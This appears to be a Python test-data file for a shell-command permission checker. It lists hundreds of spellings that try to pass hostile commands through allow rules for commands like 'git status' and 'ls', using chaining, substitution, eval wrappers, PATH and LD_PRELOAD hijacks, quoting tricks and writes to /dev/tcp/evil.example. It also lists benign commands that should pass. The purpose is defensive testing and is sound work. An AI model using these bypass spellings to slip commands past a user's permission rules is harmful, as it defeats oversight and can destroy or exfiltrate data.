"""Spellings that must never run by a rule for something else, and honest ones that must."""

RULES = ("bash(git status)", "bash(git log:*)", "bash(ls:*)", "bash(echo:*)", "bash(npm test:*)")

LISTS = r"""
ls; rm x
ls;rm x
ls && rm x
ls&&rm x
ls || rm x
ls | rm x
ls |& rm x
ls & rm x
ls &rm x
(ls; rm x)
{ ls; rm x; }
! rm x
if ls; then rm x; fi
if rm x; then ls; fi
while rm x; do ls; done
until rm x; do ls; done
for f in a b; do rm f; done
case a in a) rm x;; esac
select f in a; do rm x; done
for ((;;)); do rm x; done
time rm x
coproc rm x
coproc { rm x; }
ls # fine\nrm x
ls\nrm x
ls\n\n\trm x
echo a; echo b; echo c; rm x
git status; git push
git status && git push --force
git statusx
git log; git checkout .
function ls { rm x; }; ls
ls() { rm x; }; ls
git() { rm -rf /; }; git status
""".strip().split("\n")

SUBSTITUTIONS = r"""
echo $(rm x)
echo `rm x`
echo "$(rm x)"
echo "`rm x`"
echo "a${b:-$(rm x)}"
echo ${b:=$(rm x)}
echo $((1+$(rm x)))
echo $((a[$(rm x)]))
echo $[1+1]
echo ${x@P}
echo ${!x}
echo <(rm x)
echo >(rm x)
ls $(echo '; rm x')
ls "$(cat <<E\nrm x\nE\n)"
$(echo rm) x
`echo rm` x
$cmd
"$cmd"
${cmd} x
${IFS}rm x
echo ${x:-`rm x`}
X=$(rm x) ls
X=$(rm x)
x=(a $(rm x))
x[$(rm x)]=1
echo ${x[$(rm y)]}
[ -v 'a[$(rm x)]' ]
test -v 'a[$(rm x)]'
[[ -v a[$(rm x)] ]]
[[ $x -eq 1 ]]
(( a[$(rm x)] ))
let 'a[$(rm x)]'
printf -v 'a[$(rm x)]' b
printf -v PATH /evil; ls
read -r 'a[$(rm x)]' <<< b
unset 'a[$(rm x)]'
echo "$(echo "$(rm x)")"
cat <<E\n$(rm x)\nE
cat <<-E\n\t$(rm x)\n\tE
cat <<E\n`rm x`\nE
echo <<< "$(rm x)"
bash <<< 'rm x'
echo 'rm x' | bash
echo rm x | sh -s
echo 'rm x' | xargs -I{} sh -c {}
""".strip().split("\n")

WRAPPERS = r"""
env rm x
env -i rm x
env FOO=1 rm x
env -u HOME rm x
env -S 'rm x'
env -S'rm x'
env --split-string='rm x'
env -C / ls
/usr/bin/env rm x
sudo ls
sudo -u root ls
sudo rm x
doas ls
xargs rm
ls | xargs rm
ls | xargs -n1 rm
ls | xargs
find . -exec rm {} ;
find . -exec rm {} \;
find . -execdir rm {} +
find . -ok rm {} \;
find . -delete
find . -fprint /etc/x
nohup rm x
timeout 5 rm x
timeout -k 1 5 rm x
timeout --signal=KILL 5 rm x
nice rm x
nice -n 19 rm x
nice -19 rm x
ionice -c 3 rm x
stdbuf -oL rm x
setsid rm x
watch ls
watch rm x
watch 'ls; rm x'
command rm x
command -p rm x
builtin eval 'rm x'
exec rm x
exec -a ls rm x
exec >x
exec 3>x
eval 'rm x'
eval rm x
eval "ls; rm x"
eval $x
eval "$(echo rm)"
source ./x
. ./x
trap 'rm x' EXIT
trap 'rm x' DEBUG; ls
bash -c 'rm x'
bash -c "ls; rm x"
bash -lc 'rm x'
bash -ec 'rm x'
bash -o pipefail -c 'rm x'
bash -c -x 'rm x'
bash -c "$x"
bash -c 'ls $1' a 'x; rm x'
bash x.sh
bash --rcfile x -ic ls
bash --init-file x -c ls
sh -c 'rm x'
sh -c "echo \$'\\''; rm x; echo \\''"
zsh -c 'rm x'
busybox rm x
busybox sh -c 'rm x'
parallel rm ::: x
strace -f rm x
ltrace rm x
chroot / ls
unshare -r ls
ssh host ls
python -c 'import os'
python3 -c 'x'
perl -e 'unlink x'
node -e 'x'
ruby -e 'x'
php -r 'x'
awk 'BEGIN{system("rm x")}'
sed -n '1e rm x' y
sed -i s/a/b/ x
sed 's/a/b/w x' y
su -c ls
script -c 'rm x' /dev/null
flock x rm y
gdb -ex 'shell rm x'
""".strip().split("\n")

MEANINGS = r"""
PATH=/evil ls
PATH=/evil git status
PATH=.; ls
export PATH=.; ls
declare PATH=.; ls
declare -x PATH=.; ls
readonly PATH=.; ls
typeset PATH=.; ls
LD_PRELOAD=./x.so ls
LD_LIBRARY_PATH=. ls
BASH_ENV=x bash -c ls
ENV=x sh -c ls
IFS=x; ls
GIT_PAGER=./x git log
PAGER=./x git log
GIT_SSH_COMMAND=./x git log
GIT_EXTERNAL_DIFF=./x git log -p
GIT_DIR=./x git status
GIT_CONFIG_COUNT=1 git status
HOME=. git status
NODE_OPTIONS='--require ./x' npm test
npm_config_script_shell=./x npm test
PROMPT_COMMAND='rm x'; ls
PS4='$(rm x)'; ls
env LD_PRELOAD=./x ls
env PATH=. git status
alias ls='rm x'; ls
alias ls='rm x'\nls
enable -f ./x.so ls
hash -p ./x ls
hash -p /tmp/evil git; git status
shopt -s expand_aliases; ls
set -o posix; ls
bind -x '"a": rm x'
complete -C 'rm x' ls
compgen -C 'rm x'
mapfile -C 'rm x' -c 1 a <<< b
readarray -C 'rm x' a <<< b
command_not_found_handle() { rm x; }; ls
read PATH <<< .; ls
for PATH in .; do ls; done
cd sub && git status
cd sub; git log
pushd sub; git status
cd /evil && npm test
cd .. && npm test
cd $x && npm test
cd - && npm test
bash -O expand_aliases -c ls
[ * ]
test *
history -s rm; fc -s
fc -s ls
""".strip().split("\n")

WRITES = r"""
echo x > ~/.bashrc
echo x >> y
echo x >y
echo x >|y
echo x &>y
echo x &>>y
echo x >&y
echo x 2>y
echo x 1<>y
echo x > $y
echo x > "$(rm y)"
> x
ls > /etc/passwd
ls >/dev/null >x
ls 2>/dev/null >x
{ ls; } > x
(ls) > x
if ls; then ls; fi > x
echo x > /dev/tcp/evil.example/80
cat < /dev/tcp/evil.example/80
exec 3<>/dev/tcp/evil.example/80
git log > x
git log --output=x
git log --outp=x
git log -p --output x
git log --ext-diff
git log --textconv
git log -O/tmp/x
npm test --prefix /evil
npm test --script-shell=./x
npm test -C /evil
npm test --node-options=--require=./x
ls | tee x
echo x | dd of=y
""".strip().split("\n")

QUOTING = [
    "l\\\ns; rm x",
    "ls \\\n; rm x",
    "ls \\\n\nrm x",
    "gi\\\nt push",
    "$'rm' x",
    "$'\\x72\\x6d' x",
    "$'\\162m' x",
    "$'l\\0s' x",
    '$"ls" x',
    "r''m x",
    'r""m x',
    "\\rm x",
    "'rm' x",
    "ls\u00a0x",
    "ls\u2003x",
    "ls\u3000;rm x",
    "ls\u200b",
    "ls\u202e x",
    "\ufeffls",
    "ls\x00rm x",
    "ls\rrm x",
    "ls\r\nrm x",
    "ls \x1b[2K",
    "ls\x0brm x",
    "ls\x0crm x",
    "echo 'a\\' ; rm x ; echo \\''",
    'echo "a\\\\" ; rm x ; echo "b"',
    "echo $'a\\'' ; rm x",
    "echo a#b; rm x",
    'echo "#"; rm x',
    "echo \\#; rm x",
    "{ls,}",
    "{rm,-rf,x}",
    "r{m,} x",
    "echo !rm",
    'echo "!rm"',
    "echo !!",
    "echo a\\;b; rm x",
    "git\\ status",
    "'git status'",
    '"ls -l"',
    "'~/bin/ls'",
    "./ls",
    "/tmp/ls",
    "../git status",
    "./git status",
    "bin/git log",
    "~/ls",
    "ls)",
    "ls '",
    'ls "',
    "ls `",
    "ls $(",
    "ls ${",
    "ls &&",
    "if ls",
    "ls <<",
    "cat <<E\nx",
    "cat <<E\nx\nE\nrm x",
    "cat <<'E'\nx\nE\nrm x",
    "cat <<E <<F\na\nE\n$(rm x)\nF\n",
    "cat <<E; rm x\na\nE",
    "cat <<E | sh\nrm x\nE",
    "time -o x ls",
    "time for f in a; do rm x; done",
    "coproc x=1 rm x",
    "a=1 b=2 rm x",
    "git -c core.pager=./x log",
    "git -c alias.status='!rm x' status",
    "git -C /evil status",
    "git --exec-path=/evil log",
    "git --git-dir=/evil log",
    "git  status --porcelain | xargs rm",
    "npm  testx",
    "npm run test",
    "npm exec x",
    "echos",
    "lsof",
    "noglob rm *",
    "=ls",
    "",
    " ",
    "\n",
    "# only a comment",
    "&",
    ";",
    "ls" + " x" * 60_000,
    "(" * 200 + "ls" + ")" * 200,
    "bash -c '" * 12 + "ls",
]


def _lines(texts):
    return [text.replace("\\n", "\n").replace("\\t", "\t") for text in texts]


NEVER_ALLOWED = [
    *_lines(LISTS),
    *_lines(SUBSTITUTIONS),
    *WRAPPERS,
    *_lines(MEANINGS),
    *WRITES,
    *QUOTING,
]

ALLOWED = r"""
git status
git  status
/usr/bin/git status
'git' "status"
git log
git log --oneline -5
git log -p -- src/main.py
git log --format='%h %s' | head -20
git status && git log -3
ls
ls -la /etc src
ls *.py
ls src | wc -l
ls | grep py | sort | head -5
ls 2>/dev/null || echo none
echo hi
echo "it's fine: a;b && c"
echo 'say $(nothing)'
echo a\ b
echo hi >&2
echo é
npm test
npm test -- --watch=false
CI=1 npm test
env CI=1 npm test
timeout 60 npm test
time npm test
nice -n 5 npm test
NO_COLOR=1 npm test 2>&1 | tail -20
bash -c "git status"
bash -c 'git status && npm test'
sh -c 'ls'
(git status; ls)
{ git status; ls; }
if git status; then ls; else echo no; fi
git status; pwd; cat README.md
ls \
 -l
! git status
git log --stat # the last ones
command ls
eval 'git status'
[ -d src ] && ls src
find . -name '*.py' | head
cd src && ls
cd src && npm test
cd /work && git status
command -v ls
test -f x && echo yes
""".strip().split("\n")
ALLOWED = [line for line in ALLOWED if line not in ("ls \\", " -l")] + ["ls \\\n -l"]

READ_ONLY = """
true
ls -la src tests
ls *.py
cat README.md | head -20
grep -rn 'def main' src 2>/dev/null | wc -l
cd src && ls; pwd
git status && git diff HEAD~1 -- src
git log --oneline -5
find . -name '*.py' -type f 2>&1
rg --files
sort -u names.txt
sed -n 1,20p x
sed -n '5p' x
git show HEAD:x
date +%F
wc -l < x
bash -c 'ls && cat x'
[ -f x ] && echo yes
echo "$'"
if ls; then pwd; fi
""".strip().split("\n")

NOT_READ_ONLY = """
uniq a b
sort -o x x
sort -uo x x
sort --output=x x
sort *
rg --pre ./script x
git diff --output=x
git branch -D main
git grep --open-files-in-pager=x y
git grep -Ox y
git log --show-signature
git log --format=%G?
git log --submodule=diff -p
git log --remerge-diff
git show --diff-merges=r
git status --help
git ls-files --recurse-submodules
tree -o x
npm test
git push
curl example.org
touch x
date -s 2020-01-01
file -C -m x
sed -n p x -i
sed -n 1wx y
nohup ls
python -V
x=1 ls
""".strip().split("\n")
